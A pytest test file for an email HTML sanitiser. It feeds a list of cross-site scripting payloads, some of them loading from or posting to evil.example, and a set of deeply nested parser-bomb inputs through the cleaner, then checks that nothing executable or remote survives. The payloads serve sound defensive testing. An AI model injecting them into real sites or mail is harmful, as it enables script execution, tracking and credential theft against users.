"""HTML from outside, made safe to show."""

import time
from html.parser import HTMLParser

import pytest

from chalicelib.channels.email.clean import cleaned
from chalicelib.channels.email.tags import KNOWN

_ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT >",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif' srcset='https://evil.example/2 2x'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java&#10;script:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,x'>x</a><a href='file:///etc'>x</a>",
    "<iframe src='https://evil.example'></iframe><object data=x></object><embed src=x>",
    "<form action='https://evil.example'><input name=p><button>Sign in</button></form>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<table background='https://evil.example/x'><tr><td background='x'>x</td></tr></table>",
    "<body onload=alert(1) background=https://evil.example/x>x",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if mso]><img src=https://evil.example/x><![endif]-->",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<video src=https://evil.example/x poster=https://evil.example/y autoplay></video>",
    "<img data-attachment='1 onerror=alert(1)' data-src='javascript:alert(1)'>",
    "<x-custom onclick=alert(1)>x</x-custom>",
    "<a href='https://x.example' target=_top rel=opener onclick=alert(1)>x</a>",
    "<p id=content class=app name=body>x</p>",
    "<<script>alert(1)//<</script>",
    "<img src=\"cid:one\" onerror='alert(1)'>",
]


class _Tags(HTMLParser):
    """The tags and attributes that a page really has."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


_ALLOWED = {"href", "target", "rel", "title", "alt", "data-src", "data-attachment"}


@pytest.mark.parametrize("attack", _ATTACKS)
def test_nothing_runs_loads_or_sends(attack: str) -> None:
    for tag, attributes in _Tags(cleaned(attack, {"one": 1})).found:
        assert tag in KNOWN
        assert attributes.keys() <= _ALLOWED
        for name in ("href", "data-src"):
            assert (attributes.get(name) or "https://").startswith("https://")
        assert (attributes.get("data-attachment") or "1").isdigit()


def test_links_say_nothing_of_where_they_are_followed_from() -> None:
    page = cleaned('<a href="https://x.example/?a=1&amp;b=2">x</a>', {})

    assert page == (
        '<a href="https://x.example/?a=1&amp;b=2" target="_blank" '
        'rel="noopener noreferrer nofollow">x</a>'
    )


def test_an_image_elsewhere_keeps_its_address_without_being_loaded() -> None:
    page = cleaned('<img src="https://x.example/a.png" width="20" alt="A">', {})

    assert 'data-src="https://x.example/a.png"' in page
    assert " src=" not in page


@pytest.mark.parametrize(
    ("page", "shown"),
    [
        ("<p>one<p>two", "<p>one</p><p>two</p>"),
        ("<b>bold", "<b>bold</b>"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        (
            "<table><tr><td>a</div><td>b</table>c",
            "<table><tbody><tr><td>a</td><td>b</td></tr></tbody></table>c",
        ),
        ("<section>a</section>", "<div>a</div>"),
        ("a < b & c", "a &lt; b &amp; c"),
        ("&lt;script&gt;", "&lt;script&gt;"),
        ("<font color=red>a</font>", "a"),
        ("", ""),
    ],
)
def test_what_is_harmless_stays_as_it_looked(page: str, shown: str) -> None:
    assert cleaned(page, {}) == shown


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 100_000,
        "<b><p>" * 60_000,
        "<p><b><i><u>" * 30_000 + "<p>x" * 30_000,
        "<table><tr><td></b><b>" * 20_000 + "<p>x" * 20_000,
        "<a href='" * 50_000,
        "<a " * 100_000,
        "<" * 400_000,
        "&" * 400_000,
        "<!--" * 100_000,
        "<style>" * 60_000,
        "<ul><li>" * 50_000,
    ],
)
def test_html_made_to_hurt_takes_no_time(bomb: str) -> None:
    began = time.process_time()

    cleaned(bomb, {})

    assert time.process_time() - began < 8
